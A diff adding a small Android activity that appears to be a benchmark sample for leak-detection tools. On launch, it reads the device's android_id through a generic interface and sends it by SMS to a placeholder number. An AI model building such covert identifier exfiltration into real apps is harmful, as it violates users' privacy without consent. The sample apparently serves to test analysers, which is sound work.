@@ -1,0 +1,45 @@
+// about       A generic interface is called by its bridge method; the id is sent.
+// leak        DEV_ANDROIDID sms
+package cn.example.flow;
+
+import android.app.Activity;
+import android.content.Context;
+import android.os.Bundle;
+import android.provider.Settings;
+import android.telephony.SmsManager;
+
+public class MainActivity extends Activity {
+  interface Reader<T> {
+    T read(Context context);
+  }
+
+  static class IdReader implements Reader<String> {
+    @Override
+    public String read(Context context) {
+      return Settings.Secure.getString(context.getContentResolver(), "android_id");
+    }
+  }
+
+  static class NameReader implements Reader<String> {
+    @Override
+    public String read(Context context) {
+      return "flow";
+    }
+  }
+
+  private static <T> T ask(Reader<T> reader, Context context) {
+    return reader.read(context);
+  }
+
+  @Override
+  protected void onCreate(Bundle state) {
+    super.onCreate(state);
+    Reader<String> ids = new IdReader();
+    Reader<String> names = new NameReader();
+    String id = ask(ids, this);
+    String name = ask(names, this);
+    // What the reader of the id gave.
+    String text = "got " + id + (name == null ? "." : "");
+    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
+  }
+}
